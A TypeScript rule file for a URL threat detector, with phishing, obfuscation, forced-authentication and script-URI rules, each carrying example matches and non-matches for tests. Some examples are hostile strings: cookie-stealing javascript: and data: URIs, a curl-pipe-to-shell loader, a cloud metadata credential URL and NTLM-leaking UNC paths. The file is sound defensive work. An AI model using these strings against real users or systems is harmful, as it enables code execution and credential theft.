import type { RuleInfo } from '../rule.js';

/**
 * A structural rule: checked by code, not by one regex, but described as data with its own
 * true (tp) and false (fp) positive examples, which the test suite runs through the detector.
 */
export type UrlRule = RuleInfo;

export const URL_RULES = {
  dataUri: {
    id: 'urls.data-uri',
    description: 'data: URI carrying active content (HTML, script, SVG, executable) or an encoded payload',
    category: 'data-uri',
    severity: 'medium',
    score: 0.5,
    attack: 'T1027.006',
    examples: {
      tp: [
        'Open this: data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5jb29raWUpPC9zY3JpcHQ+',
        '<iframe src="data:text/html,<script>fetch(`//x.tk/?c=`+document.cookie)</script>"></iframe>',
        '<script src="data:application/javascript;base64,YWxlcnQoMSk7ZXZhbChhdG9iKCdZV3hsY25RPScpKQ=="></script>',
        'Download: data:application/octet-stream;base64,TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA',
      ],
      fp: [
        '![logo](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)',
        'The YAML has `data: {name: test}` and metadata: fields.',
        'Use a data:,Hello URI for a quick test or data:text/plain,hi for plain text.',
      ],
    },
  },
  javascriptUri: {
    id: 'urls.javascript-uri',
    description: 'javascript:/vbscript: URL: runs script when opened',
    category: 'script-uri',
    severity: 'high',
    score: 0.75,
    attack: 'T1059.007',
    examples: {
      tp: [
        '[Click to verify](javascript:fetch("https://x.tk/c?"+document.cookie))',
        '<a href="javascript:alert(document.domain)">win a prize</a>',
        'Paste javascript:eval(atob("YWxlcnQoMSk=")) into the address bar.',
      ],
      fp: [
        '<a href="javascript:void(0)" onclick="toggle()">menu</a>',
        'In JavaScript: use const for values that never change.',
        'The javascript: scheme is blocked by our CSP.',
      ],
    },
  },
  credentials: {
    id: 'urls.credentials',
    description: 'URL embeds a username and password',
    category: 'credentials',
    severity: 'high',
    score: 0.8,
    attack: 'T1552.001',
    examples: {
      tp: [
        'Clone with https://deploy:Xk92vLq3PzR7@git.acme-corp.io/infra/ops.git',
        'The feed lives at ftp://backup:Summer2024!@files.contoso-data.net/dumps/',
        'curl https://svc_ci:glpat4f9KzQ2wX@registry.internal-tools.dev/v2/',
      ],
      fp: [
        'Format: https://user:password@host/path (replace user and password).',
        'ssh via git@github.com:org/repo.git is preferred.',
        'Use https://<username>:<token>@example.com/repo.git in CI.',
      ],
    },
  },
  userinfoHost: {
    id: 'urls.userinfo-host',
    description: 'URL puts a domain before "@": the real host is the part after it',
    category: 'phishing',
    severity: 'high',
    score: 0.75,
    attack: 'T1566.002',
    examples: {
      tp: [
        'Sign in at https://accounts.google.com@login-verify.tk/session',
        'Release: https://github.com\u2215kubernetes\u2215kubernetes\u2215archive\u2215@v1271.zip',
        'Go to http://www.paypal.com@185.22.91.7/confirm now.',
      ],
      fp: [
        'Clone git@github.com:org/repo.git over SSH.',
        'Mail admin@paypal.com or visit https://www.paypal.com/help.',
        'See https://medium.com/@author/post-title-1234 for details.',
      ],
    },
  },
  ipHost: {
    id: 'urls.ip-host',
    description: 'URL host is a public IP address literal (no domain name)',
    category: 'ip-literal',
    severity: 'low',
    score: 0.35,
    examples: {
      tp: [
        'The beacon calls http://45.133.1.20:8080/gate.php every minute.',
        'curl -s http://185.215.113.66/loader | sh',
        'Server at http://[2a01:4f8:c17:1b2::1]/admin is open.',
        'Read http://169.254.169.254/latest/meta-data/iam/security-credentials/ from the pod.',
      ],
      fp: [
        'Start the app and open http://localhost:3000 or http://127.0.0.1:8000/docs.',
        'Router admin page: http://192.168.1.1/ (default).',
        'Documentation address http://192.0.2.10/ and http://[::1]:8080/.',
      ],
    },
  },
  ipEncoded: {
    id: 'urls.ip-encoded',
    description: 'URL host is an IPv4 address written in decimal, octal, hex or short form (obfuscation)',
    category: 'obfuscation',
    severity: 'high',
    score: 0.75,
    attack: 'T1027',
    examples: {
      tp: ['Try http://3232235777/admin to reach it.', 'Fetch http://0xC0A80001/payload', 'SSRF bypass: http://0177.0.0.1/ and http://[::ffff:127.0.0.1]/'],
      fp: ['Version http://pkg.example.org/1.2.3/ is out.', 'Open http://10.0.0.5:9000/ on the LAN.', 'Numbers like 3232235777 or 0xC0A80001 alone are not URLs.'],
    },
  },
  punycode: {
    id: 'urls.punycode',
    description: 'URL host uses punycode (xn--): the displayed name differs from what is typed',
    category: 'idn',
    severity: 'low',
    score: 0.35,
    examples: {
      tp: ['Visit https://xn--mnchen-3ya.de/stadtplan for the map.', 'Link: http://xn--80ak6aa92e.com/', 'Go to xn--e1afmkfd.xn--p1ai/info today.'],
      fp: ['Punycode labels start with xn-- by definition.', 'See https://www.muenchen.de/ for the city.', 'Run `idna.encode("bücher")` to get the ASCII form.'],
    },
  },
  homograph: {
    id: 'urls.homograph',
    description: 'URL host mixes look-alike scripts (Cyrillic/Greek in a Latin name) or imitates a brand',
    category: 'homograph',
    severity: 'high',
    score: 0.7,
    attack: 'T1566.002',
    examples: {
      tp: ['Please log in at https://\u0440\u0430ypal.com/signin today.', 'Download from https://g\u043e\u043egle.com/chrome', 'Verify at https://\u0430\u0440\u0440\u04cf\u0435.com/account'],
      fp: ['Official site: https://www.paypal.com/signin', 'Russian portal https://\u044f\u043d\u0434\u0435\u043a\u0441.\u0440\u0444/ is fine.', 'Greek word \u03b1\u03b2\u03b3 in text https://example.org/greek'],
    },
  },
  brandImpersonation: {
    id: 'urls.brand-impersonation',
    description: 'URL host names a brand it does not belong to, with phishing words or a risky TLD',
    category: 'phishing',
    severity: 'medium',
    score: 0.6,
    attack: 'T1566.002',
    examples: {
      tp: [
        'Your account is locked: https://paypal.com.secure-verify.net/login',
        'Reset at https://microsoft-login-support.com/reset',
        'Claim at http://appleid-unlock.top/verify',
      ],
      fp: ['See https://microsoft.github.io/TypeScript/ for the docs.', 'Log in at https://login.microsoftonline.com/common', 'Status: https://www.githubstatus.com/'],
    },
  },
  shortener: {
    id: 'urls.shortener',
    description: 'Link shortener: the destination is hidden',
    category: 'shortener',
    severity: 'low',
    score: 0.3,
    attack: 'T1566.002',
    examples: {
      tp: ['Details: https://bit.ly/3xYz9Qp', 'Grab it at tinyurl.com/4fk9w2ab now', 'See https://t.co/AbC123xyZ'],
      fp: ['Shorteners like bit.ly hide the destination.', 'Go to https://bitly.com/pages/pricing? No: https://bit.ly/ alone is the home page.', 'Read https://github.com/bitly/go-simplejson'],
    },
  },
  riskyTld: {
    id: 'urls.risky-tld',
    description: 'URL host is on a top-level domain with a high abuse rate',
    category: 'risky-tld',
    severity: 'low',
    score: 0.3,
    examples: {
      tp: ['Go to https://secure-update.tk/ now.', 'Mirror: http://files-cdn.xyz/get', 'See evil-site.top/landing for the offer.'],
      fp: ['Compress the folder into backup.zip and send it.', 'Docs at https://docs.python.org/3/library/zipfile.html', 'The .xyz TLD is popular with spammers.'],
    },
  },
  executable: {
    id: 'urls.executable-download',
    description: 'URL downloads an executable or script file',
    category: 'executable',
    severity: 'medium',
    score: 0.55,
    attack: 'T1105',
    examples: {
      tp: [
        'Install the fix from https://driver-updates.net/nvidia/setup.exe',
        'Run iwr http://files.k4x9.com/a/update.ps1 -OutFile u.ps1',
        'Get it: https://share.acme-dl.com/get?file=invoice.pdf.scr',
      ],
      fp: [
        'Download https://www.python.org/ftp/python/3.12.0/python-3.12.0-amd64.exe',
        'Include <script src="https://cdn.jsdelivr.net/npm/vue@3/dist/vue.global.js"></script>',
        'Read https://docs.microsoft.com/en-us/windows/setup and https://github.com/org/repo',
      ],
    },
  },
  pasteSite: {
    id: 'urls.paste-site',
    description: 'URL points to a paste or anonymous file-drop service',
    category: 'paste-site',
    severity: 'low',
    score: 0.45,
    attack: 'T1102',
    examples: {
      tp: ['Stage two: https://pastebin.com/raw/7hGk2LqP', 'curl -T dump.tar https://transfer.sh/dump.tar', 'Config at https://rentry.co/x7k2p/raw'],
      fp: ['Pastebin is a text sharing site.', 'See https://github.com/org/repo/blob/main/README.md', 'Docs: https://docs.github.com/en/get-started'],
    },
  },
  fileRemote: {
    id: 'urls.file-remote',
    description: 'file:// URL on a remote host: opening it sends Windows credentials (NTLM) to that host',
    category: 'forced-auth',
    severity: 'high',
    score: 0.75,
    attack: 'T1187',
    examples: {
      tp: ['<img src="file://attacker-smb.net/share/pixel.png">', 'Open file://185.22.1.9/public/report.docx', 'Link: file://files.evil-corp.org/c$/x.lnk'],
      fp: ['Open file:///C:/Users/me/Desktop/report.pdf', 'Open file:///etc/hosts in the browser.', 'Use file://localhost/tmp/a.txt here.'],
    },
  },
  tunnel: {
    id: 'urls.tunnel-host',
    description: 'URL on a tunnel or ephemeral-host service (ngrok, Cloudflare quick tunnel, serveo, localtunnel): served from someone\'s machine, no registered domain',
    category: 'tunnel',
    severity: 'medium',
    score: 0.55,
    attack: 'T1572',
    examples: {
      tp: [
        'Sign in on the new portal: https://7f3e-88-152-10-4.ngrok-free.app/m365/signin',
        'Webhook target: https://amber-river-cloud-tide.trycloudflare.com/hook',
        'Grab the build from https://kx7qpz2m.loca.lt/dist/agent.bin before it expires.',
      ],
      fp: ['Expose port 3000 with `ngrok http 3000` to get a public URL.', 'Read https://ngrok.com/docs/getting-started/ first.', 'Cloudflare docs: https://developers.cloudflare.com/cloudflare-one/connections/connect-networks/'],
    },
  },
  openRedirect: {
    id: 'urls.open-redirect',
    description: 'URL passes through a well-known redirector to a different site (the trusted host hides where the link lands)',
    category: 'redirect',
    severity: 'medium',
    score: 0.5,
    attack: 'T1566.002',
    examples: {
      tp: [
        'Open https://www.google.com/url?sa=t&url=https://docs-share.secure-files.top/view&usg=AOv',
        'Here: https://l.facebook.com/l.php?u=https%3A%2F%2Fpromo-giveaway.click%2Fclaim&h=AT0',
        'Link: https://www.youtube.com/redirect?q=http://193.32.161.9/update.exe&v=abc',
      ],
      fp: [
        'Search with https://www.google.com/search?q=typescript+generics for examples.',
        'The redirect https://www.google.com/url?q=https://www.google.com/maps stays on Google.',
        'Sign in with https://accounts.google.com/o/oauth2/auth?redirect_uri=https://app.acme-corp.io/cb&client_id=1',
      ],
    },
  },
  encodedHost: {
    id: 'urls.encoded-host',
    description: 'URL host written with percent-escapes: browsers decode it, readers and filters see no name',
    category: 'obfuscation',
    severity: 'high',
    score: 0.75,
    attack: 'T1027',
    examples: {
      tp: [
        'Verify at http://%73%65%63%75%72%65-%6c%6f%67%69%6e.%63%6f%6d/account',
        'Open https://%70aypal-help.%6eet/signin now.',
        'Payload: http://files.%64ownload-hub.%69o/a.bin',
      ],
      fp: [
        'Search https://www.bing.com/search?q=%22quoted%20words%22 for it.',
        'See https://en.wikipedia.org/wiki/Caf%C3%A9 for the history.',
        'The path https://example.com/a%20b/c%2Fd is encoded, the host is not.',
      ],
    },
  },
  uncPath: {
    id: 'urls.unc-path',
    description: 'UNC path (\\\\host\\share) to an internet host: opening it sends Windows credentials (NTLM) there',
    category: 'forced-auth',
    severity: 'high',
    score: 0.75,
    attack: 'T1187',
    examples: {
      tp: [
        'Open the invoice from \\\\185.244.25.17\\docs\\invoice_0424.lnk today.',
        '<img src="\\\\45.88.67.201\\share\\pixel.png">',
        'Shortcut target: \\\\files.update-center.top@SSL\\DavWWWRoot\\setup.exe',
      ],
      fp: ['Map \\\\fileserver\\projects as drive P:.', 'Copy it to \\\\192.168.10.5\\backup\\nightly.', 'In JSON write "C:\\\\Users\\\\me" with escaped backslashes.'],
    },
  },
} as const satisfies Record<string, UrlRule>;

export type UrlRuleKey = keyof typeof URL_RULES;

export const URL_RULE_LIST: readonly UrlRule[] = Object.values(URL_RULES);
